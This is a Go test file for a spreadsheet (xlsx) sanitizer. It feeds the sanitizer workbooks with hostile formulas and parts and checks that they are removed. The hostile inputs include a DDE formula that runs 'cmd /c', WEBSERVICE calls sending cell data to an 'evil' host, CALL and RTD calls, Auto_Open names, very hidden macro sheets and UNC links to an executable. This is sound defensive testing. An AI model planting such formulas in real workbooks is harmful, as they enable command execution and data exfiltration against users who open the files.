package ooxml

import (
	"strings"
	"testing"

	"sekisho/sanitize"
	"sekisho/sanitize/sanitizetest"
)

// cell returns a row with one cell that has a formula and a value.
func cell(formula, value string) string {
	return `<row r="1"><c r="A1" t="str"><f>` + formula + `</f><v>` + value + `</v></c></row>`
}

func sheetCases() []sanitizetest.Case {
	strict := sanitize.Strict()
	book := func(rows string) files { return workbook(Xlsx, rows) }
	names := func(list string) files {
		return book("").replace("xl/workbook.xml", "</sheets>", "</sheets><definedNames>"+list+"</definedNames>")
	}
	return []sanitizetest.Case{
		{Name: "formulas stay", Input: book(cell(`SUM(B1:B3)*IF(表!A2="a|b",_xlfn.XLOOKUP(1,Table1[[#This Row],[列]],'表'!C:C),2)`, "7")).zip(), Keep: []string{"XLOOKUP", "Table1[["}, Exact: true},
		{Name: "web formula", Input: book(cell(`WEBSERVICE("http://evil/"&amp;A1)`, "価格")).zip(), Gone: []string{"evil"}, Keep: []string{"<v>価格</v>"}, Rules: []string{ruleFormula}, Exact: true},
		{Name: "DDE formula", Input: book(cell(`cmd|'/c evil'!A0`, "v")).zip(), Gone: []string{"evil"}, Keep: []string{"<v>v</v>"}, Rules: []string{ruleFormula}, Exact: true},
		{Name: "other workbook", Input: book(cell(`[1]evil!A1+'C:\[evil.xlsx]S'!A1`, "v")).zip(), Gone: []string{"evil"}, Keep: []string{"<v>v</v>"}, Rules: []string{ruleFormula}, Exact: true},
		{
			Name: "shared formula",
			Input: book(`<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">CALL("evil",A1)</f><v>1</v></c></row><row r="2"><c r="A2"><f t="shared" si="0"/><v>2</v></c></row>` +
				`<row r="3"><c r="A3"><f t="shared" ref="A3:A4" si="1">A1+1</f><v>3</v></c><c r="A4"><f t="shared" si="1"/><v>4</v></c></row>`).zip(),
			Gone: []string{"evil", `si="0"`}, Keep: []string{"<v>2</v>", `<f t="shared" si="1"/>`}, Rules: []string{ruleFormula}, Exact: true,
		},
		{
			Name:  "links",
			Input: book(cell(`HYPERLINK("https://www.example.jp/","a")&amp;HYPERLINK("#表!A1","b")`, "a") + strings.Replace(cell(`HYPERLINK("file://evil","a")`, "b"), `"1"`, `"2"`, 1)).zip(),
			Gone:  []string{"evil"}, Keep: []string{"www.example.jp", "#表!A1"}, Rules: []string{ruleFormula}, Exact: true,
		},
		{
			Name: "formats and validations",
			Input: book("").replace("xl/worksheets/sheet1.xml", "</sheetData>", `</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("evil")</formula></cfRule></conditionalFormatting>`+
				`<conditionalFormatting sqref="B1"><cfRule type="expression" priority="2"><formula>B1&gt;3</formula></cfRule></conditionalFormatting>`+
				`<dataValidations count="2"><dataValidation type="list" sqref="C1"><formula1>"はい,いいえ"</formula1></dataValidation><dataValidation type="custom" sqref="D1"><formula1>RTD("evil",,)</formula1></dataValidation></dataValidations>`).zip(),
			Gone: []string{"evil", `sqref="A1"`, `sqref="D1"`}, Keep: []string{"B1&gt;3", "はい,いいえ", `<dataValidations count="1">`}, Rules: []string{ruleFormula}, Exact: true,
		},
		{
			Name: "defined names", Input: names(`<definedName name="good">表!$A$1</definedName><definedName name="bad">CALL("evil")</definedName><definedName name="Auto_Open">evil!A1</definedName><definedName name="m" function="1" vbProcedure="1">evil</definedName>`).zip(),
			Gone: []string{"evil", "Auto_Open"}, Keep: []string{"表!$A$1", `<definedName name="bad">#REF!</definedName>`}, Rules: []string{ruleFormula, ruleMacro}, Exact: true,
		},
		{
			Name: "macro sheet, very hidden sheet, references to them",
			Input: book(cell(`Macro1!A1`, "v")).
				replace("xl/workbook.xml", `<sheets>`, `<sheets><sheet name="Macro1" sheetId="9" state="veryHidden" r:id="rId9"/>`).
				replace("xl/workbook.xml", `</sheets>`, `<sheet name="裏" sheetId="3" state="veryHidden" r:id="rId3"/></sheets><definedNames><definedName name="a" localSheetId="1">表!A1</definedName><definedName name="b" localSheetId="0">evil</definedName></definedNames>`).
				replace("xl/workbook.xml", `activeTab="0"`, `activeTab="2"`).
				with("xl/_rels/workbook.xml.rels", rels("rId1", "worksheet", "worksheets/sheet1.xml", "rId3", "worksheet", "worksheets/sheet3.xml",
					"rId9", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"),
					"xl/macrosheets/sheet1.xml", "<evil/>", "xl/worksheets/sheet3.xml", `<worksheet `+nsX+`><sheetData/></worksheet>`).zip(),
			Gone: []string{"evil", "veryHidden", "Macro1"}, Keep: []string{`state="hidden"`, `localSheetId="0"`, `activeTab="1"`, "<v>v</v>"},
			Rules: []string{ruleMacro, ruleVeryHidden, ruleFormula, ruleDangling}, Exact: true,
		},
		{
			Name: "parts that reach outside",
			Input: book("").replace("xl/workbook.xml", "</sheets>", `</sheets><externalReferences><externalReference r:id="rId2"/></externalReferences>`).
				replace("xl/worksheets/sheet1.xml", "</sheetData>", `</sheetData><hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><pageSetup r:id="rId2" orientation="portrait"/>`).
				with("xl/_rels/workbook.xml.rels", rels("rId1", "worksheet", "worksheets/sheet1.xml", "rId2", "externalLink", "externalLinks/e.xml", "rId3", "connections", "connections.xml", "rId4", "calcChain", "calcChain.xml"),
					"xl/externalLinks/e.xml", "<evil/>", "xl/connections.xml", "<evil/>", "xl/calcChain.xml", "<evil/>",
					"xl/worksheets/_rels/sheet1.xml.rels", rels("rId1", "hyperlink", "!\\\\evil\\x.exe", "rId2", "printerSettings", "../printerSettings/p.bin"), "xl/printerSettings/p.bin", "evil").zip(),
			Gone: []string{"evil", "hyperlinks", "externalReference"}, Keep: []string{`orientation="portrait"`},
			Rules: []string{ruleExternalLink, ruleConnection, ruleCalcChain, ruleHyperlink, rulePrinter}, Exact: true,
		},
		{
			Name: "strict: hidden sheets, rows and columns go",
			Input: book(`<row r="1" hidden="1"><c r="A1"><v>11</v></c></row><row r="2"><c r="A2"><v>22</v></c><c r="AB2"><v>33</v></c><c r="AC2"><v>44</v></c></row>`).
				replace("xl/worksheets/sheet1.xml", "<sheetData>", `<cols><col min="28" max="28" hidden="1"/></cols><sheetData>`).
				replace("xl/workbook.xml", `</sheets>`, `<sheet name="裏" sheetId="3" state="hidden" r:id="rId3"/></sheets>`).
				with("xl/_rels/workbook.xml.rels", rels("rId1", "worksheet", "worksheets/sheet1.xml", "rId3", "worksheet", "worksheets/sheet3.xml"),
					"xl/worksheets/sheet3.xml", `<worksheet `+nsX+`><sheetData>`+cell("1", "99")+`</sheetData></worksheet>`).zip(),
			Policy: &strict, Gone: []string{"<v>11</v>", "<v>33</v>", "<v>99</v>", "裏"}, Keep: []string{"<v>22</v>", "<v>44</v>"}, Rules: []string{ruleHidden, ruleDangling}, Exact: true,
		},
	}
}

// TestTitles: the properties list the sheets and slides that the document has, or none.
func TestTitles(t *testing.T) {
	const titles = `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">` +
		`<Company>役所</Company><HeadingPairs><vt:vector size="2" baseType="variant"><vt:variant><vt:lpstr>Worksheets</vt:lpstr></vt:variant><vt:variant><vt:i4>2</vt:i4></vt:variant></vt:vector></HeadingPairs>` +
		`<TitlesOfParts><vt:vector size="2" baseType="lpstr"><vt:lpstr>表</vt:lpstr><vt:lpstr>Macro1</vt:lpstr></vt:vector></TitlesOfParts></Properties>`
	with := func(f files) files {
		return f.with("_rels/.rels", rels("rId1", "officeDocument", "xl/workbook.xml", "rId2", "extended-properties", "docProps/app.xml"), "docProps/app.xml", titles)
	}
	plain := workbook(Xlsx, `<row r="1"><c r="A1"><v>1</v></c></row>`)
	lost := plain.replace("xl/workbook.xml", `<sheets>`, `<sheets><sheet name="Macro1" sheetId="9" r:id="rId9"/>`).
		with("xl/_rels/workbook.xml.rels", rels("rId1", "worksheet", "worksheets/sheet1.xml", "rId9", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"),
			"xl/macrosheets/sheet1.xml", "<evil/>")
	prove(t, sanitizetest.Suite{Format: Xlsx, Others: others(Xlsx), Cases: []sanitizetest.Case{
		{Name: "all sheets stay", Input: with(plain).zip(), Keep: []string{"役所", "<vt:lpstr>Macro1</vt:lpstr>"}, Exact: true},
		{Name: "a sheet goes", Input: with(lost).zip(), Keep: []string{"役所"}, Gone: []string{"Macro1", "Worksheets"}, Rules: []string{ruleMacro, ruleDangling, ruleMetadata}, Exact: true},
	}})
}

func TestSheet(t *testing.T) {
	cases := sheetCases()
	for i := range cases {
		cases[i].Check = sound
	}
	pivot := func(definition string) []byte {
		return workbook(Xlsx, cell("", "値")).replace("xl/workbook.xml", "</sheets>", `</sheets><pivotCaches><pivotCache cacheId="1" r:id="rId4"/></pivotCaches>`).
			with("xl/_rels/workbook.xml.rels", rels("rId1", "worksheet", "worksheets/sheet1.xml", "rId4", "pivotCacheDefinition", "pivotCache/d1.xml", "rId5", "connections", "connections.xml"), "xl/connections.xml", "<evil/>",
				"xl/pivotCache/d1.xml", `<pivotCacheDefinition `+nsX+` `+nsR+` refreshOnLoad="1">`+definition+`</pivotCacheDefinition>`, "xl/worksheets/_rels/sheet1.xml.rels", rels("rId2", "pivotTable", "../pivotTables/p1.xml"),
				"xl/pivotTables/p1.xml", `<pivotTableDefinition `+nsX+` name="集計" cacheId="1"><location ref="A1" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/></pivotTableDefinition>`,
				"xl/pivotTables/_rels/p1.xml.rels", rels("rId1", "pivotCacheDefinition", "../pivotCache/d1.xml")).zip()
	}
	const fields = `<cacheFields count="1"><cacheField name="区分"><sharedItems><s v="甲"/></sharedItems></cacheField></cacheFields>`
	cases = append(cases,
		sanitizetest.Case{Name: "pivot table of a sheet", Input: pivot(`<cacheSource type="worksheet"><worksheetSource ref="A1" sheet="表"/></cacheSource>` + fields),
			Keep: []string{`refreshOnLoad="1"`, `<worksheetSource ref="A1" sheet="表"/>`}, Rules: []string{ruleConnection}, Exact: true, Check: sound},
		sanitizetest.Case{Name: "pivot table of a connection", Input: pivot(`<cacheSource type="external" connectionId="7"/>` + fields), Gone: []string{"evil", "refreshOnLoad", "external", "connectionId"},
			Keep: []string{`<cacheSource type="worksheet"><worksheetSource name="_"/></cacheSource>`, "甲", `name="集計"`}, Rules: []string{ruleConnection}, Exact: true, Check: sound},
		sanitizetest.Case{Name: "pivot table of a data model", Input: pivot(`<cacheSource type="external" connectionId="7"/>` + fields + `<cacheHierarchies count="1"><cacheHierarchy uniqueName="[a]"/></cacheHierarchies>`),
			Gone: []string{"evil", "pivot"}, Keep: []string{"値"}, Rules: []string{ruleConnection, ruleDangling}, Exact: true, Check: sound})
	prove(t, sanitizetest.Suite{Format: Xlsx, Others: others(Xlsx), Cases: cases})
}

func TestFormula(t *testing.T) {
	plan := &sheetPlan{gone: map[string]bool{"macro1": true}, names: map[string]bool{"mylambda": true}}
	for text, want := range map[string]bool{
		`A1+B2`: true, `"a|b[1]"`: true, `'a b'!A1`: true, `'it''s'!A1`: true, `T[a]`: true, `T[[#All],[x'[y]]]`: true, `MyLambda(1)`: true,
		`_xlfn.LET(_xlpm.a,1,_xlpm.a+1)`: true, `#REF!+1`: true, `-1.5E+3%`: true, `{1,2;3,4}`: true, `合計`: true, `SUM (A1)`: true, `東京!A1`: true,
		`a|b!c`: false, `'x|y'!A1`: false, `[1]S!A1`: false, `'[a.xlsx]S'!A1`: false, `'\\h\s\[a.xlsx]S'!A1`: false, `Udf(1)`: false, `RTD("a",,)`: false,
		`register.id("a")`: false, `CALL (1)`: false, `macro1!A1`: false, `'Macro1'!A1`: false, `'a:Macro1'!A1`: false, `"open`: false, `T[a`: false,
		`HYPERLINK(A1)`: false, `HYPERLINK("http://a.jp"&A1)`: false, `HYPERLINK("http://a.jp")`: true, `HYPERLINK("#"&A1)`: true, `hyperlink("ftp://a.jp","b")`: false,
		`_xll.Evil(1)`: false, `IMAGE("http://a.jp")`: false, `A1\B1`: false,
	} {
		if got := allowedFormula(text, plan, sanitize.Standard()); got != want {
			t.Errorf("%s: %v", text, got)
		}
	}
}
